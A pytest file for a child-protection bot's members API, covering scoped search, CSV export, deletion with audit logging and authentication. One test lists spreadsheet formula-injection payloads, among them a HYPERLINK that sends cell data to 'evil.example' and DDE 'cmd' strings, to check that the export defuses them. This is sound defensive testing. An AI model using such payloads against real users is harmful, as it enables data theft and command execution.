"""The members API: search, one member, CSV export and deletion, for every role and scope."""

from __future__ import annotations

import csv
import io

from sqlalchemy import func, select, update

from bot.storage.models import AuditEntry, Contact, Conversation, Delivery, Inbound
from tests.webhook.api.conftest import PHONE, SECRET_TEXT

ROUTES = [
    ("GET", "/api/members"),
    ("GET", "/api/members.csv"),
    ("GET", "/api/members/1"),
    ("DELETE", "/api/members/1"),
]


async def ids(api, who, query=""):
    response = await api.call(who, "GET", f"/api/members{query}")
    assert response.status_code == 200, response.text
    return {m["id"] for m in response.json()["members"]}, response.json()


async def test_every_role_searches_within_its_country_scope(api):
    ro, md = api.members["ro"], api.members["md"]
    for who in ("admin", "editor", "viewer"):
        assert (await ids(api, who))[0] == {ro, md}
    found, page = await ids(api, "md_editor")
    assert found == {md} and page["total"] == 1
    assert (await ids(api, "md_editor", "?country=RO"))[0] == set()
    assert (await ids(api, "admin", "?q=salvați"))[0] == {ro}
    assert (await ids(api, "admin", "?q=SALVAȚI"))[0] == {ro}
    assert (await ids(api, "admin", "?q=%2B373 69 123 456"))[0] == {md}  # a phone, as typed
    assert (await ids(api, "admin", f"?q={md}"))[0] == {md}
    assert (await ids(api, "admin", "?channel=telegram&locale=ro"))[0] == {ro}
    assert (await ids(api, "admin", "?organisation=cnpac"))[0] == {md}
    assert (await ids(api, "admin", "?status=active"))[0] == {ro, md}
    assert (await ids(api, "admin", "?status=unreachable"))[0] == set()
    found, page = await ids(api, "admin", "?limit=1&offset=1")
    assert page["total"] == 2 and len(found) == 1 and page["limit"] == 1
    newest = (await api.call("admin", "GET", "/api/members")).json()["members"]
    assert [m["id"] for m in newest] == [md, ro]
    assert PHONE not in str(newest) and "address" not in newest[0]
    bad = await api.call("admin", "GET", "/api/members?status=sleeping")
    assert bad.status_code == 422


async def test_an_unreachable_member_shows_as_unreachable_whatever_they_chose(api):
    async with api.service.db.session() as session, session.begin():
        member = await session.get(Contact, api.members["ro"])
        member.status, member.unreachable_at = "stopped", func.now()
    assert (await ids(api, "admin", "?status=unreachable"))[0] == {api.members["ro"]}
    assert (await ids(api, "admin", "?status=stopped"))[0] == set()
    one = await api.call("viewer", "GET", f"/api/members/{api.members['ro']}")
    assert one.json()["status"] == "unreachable"


async def test_a_member_with_their_history_within_scope_only(api):
    md = api.members["md"]
    for who in ("admin", "editor", "viewer", "md_editor"):
        response = await api.call(who, "GET", f"/api/members/{md}")
        assert response.status_code == 200, (who, response.text)
    member = response.json()
    assert member["country"] == "MD" and member["organisation"] == "CNPAC Moldova"
    assert [(h["direction"], h["text"]) for h in member["history"]] == [
        ("in", SECRET_TEXT),
        ("out", "hello md"),
    ]
    assert member["conversations"] == [api.conversations["md"]]
    assert PHONE not in response.text
    other = await api.call("md_editor", "GET", f"/api/members/{api.members['ro']}")
    assert other.status_code == 404
    assert (await api.call("admin", "GET", "/api/members/999999")).status_code == 404
    brief = await api.call("admin", "GET", f"/api/members/{md}?history=0")
    assert brief.json()["history"] == []


async def test_the_csv_export_has_no_chat_addresses_and_keeps_to_the_scope(api):
    response = await api.call("viewer", "GET", "/api/members.csv")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert list(rows[0]) == [
        "id", "channel", "status", "locale", "country", "organisation", "created_at",
        "last_inbound_at",
    ]  # fmt: skip
    assert {int(r["id"]) for r in rows} == set(api.members.values())
    assert PHONE not in response.text and "400000001" not in response.text
    scoped = await api.call("md_editor", "GET", "/api/members.csv?status=active")
    assert [r["country"] for r in csv.DictReader(io.StringIO(scoped.text))] == ["MD"]
    filtered = await api.call("admin", "GET", "/api/members.csv?country=RO")
    assert [r["organisation"] for r in csv.DictReader(io.StringIO(filtered.text))] == [
        "Salvați Copiii"
    ]


async def test_editors_delete_a_member_and_all_their_rows_and_the_log_keeps_the_id(api):
    md, ro = api.members["md"], api.members["ro"]
    assert (await api.call("viewer", "DELETE", f"/api/members/{md}")).status_code == 403
    assert (await api.call("md_editor", "DELETE", f"/api/members/{ro}")).status_code == 404
    response = await api.call("md_editor", "DELETE", f"/api/members/{md}")
    assert response.status_code == 204
    assert (await api.call("admin", "GET", f"/api/members/{md}")).status_code == 404
    assert (await api.call("admin", "DELETE", f"/api/members/{md}")).status_code == 404
    async with api.service.db.session() as session:
        left = [
            await session.scalar(select(func.count()).select_from(model).where(where))
            for model, where in (
                (Inbound, Inbound.address == PHONE),
                (Delivery, Delivery.address == PHONE),
                (Conversation, Conversation.contact_id == md),
            )
        ]
        entry = await session.scalar(select(AuditEntry).where(AuditEntry.action == "member.delete"))
        kept = await session.scalar(select(func.count()).select_from(Inbound))
    # The other member's message stays; so does the Moldovan member's safeguarding
    # conversation, for the focal point (child protection is an exception to erasure).
    assert left == [0, 0, 1] and kept == 1
    assert entry.target == f"member:{md}" and entry.actor == "md_editor@childpact.org"
    assert entry.detail == {}
    assert (await api.call("editor", "DELETE", f"/api/members/{ro}")).status_code == 204


async def test_the_members_api_wants_credentials(api):
    for method, path in ROUTES:
        response = await api.call(None, method, path)
        assert response.status_code == 401, (path, response.text)
        assert response.headers["www-authenticate"] == "Bearer"


FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


async def test_the_csv_export_keeps_formulas_that_members_typed_as_text(api):
    for formula in FORMULAS:
        async with api.service.db.session() as session, session.begin():
            await session.execute(
                update(Contact).where(Contact.id == api.members["ro"]).values(organisation=formula)
            )
        for who, path in (("admin", "/api/members.csv"), ("viewer", "/api/members.csv?country=RO")):
            response = await api.call(who, "GET", path)
            rows = {r["id"]: r for r in csv.DictReader(io.StringIO(response.text))}
            cell = rows[str(api.members["ro"])]["organisation"]
            assert cell == "'" + formula, (formula, cell)


async def test_search_finds_organisations_as_people_type_them(api):
    # The review's finding 20: "salvati" found nobody, "Salvați" found one.
    from bot.storage.models import Contact

    ro = api.members["ro"]
    async with api.service.db.session() as session, session.begin():
        contact = Contact(channel="telegram", address="400000077", status="active",
                          country="MD", locale="ru", organisation="Партнерство для детей")  # fmt: skip
        session.add(contact)
        await session.flush()
        cyrillic = contact.id
    for typed in ("salvati", "Salvati", "SALVAŢI", "salv", "copii salv", "ați cop"):
        assert (await ids(api, "admin", f"?q={typed}"))[0] == {ro}, typed
    assert (await ids(api, "admin", "?organisation=salvati copii"))[0] == {ro}
    assert (await ids(api, "admin", "?q=salvati unicef"))[0] == set()  # every word counts
    assert (await ids(api, "admin", "?q=partnerstvo"))[0] == {cyrillic}
    assert (await ids(api, "admin", "?q=партнерство"))[0] == {cyrillic}
    # A changed organisation is found by its new name only.
    async with api.service.db.session() as session, session.begin():
        found = await session.get(Contact, ro)
        assert found is not None
        found.organisation = "Asociația Împreună"
    assert (await ids(api, "admin", "?q=salvati"))[0] == set()
    assert (await ids(api, "admin", "?q=impreuna"))[0] == {ro}
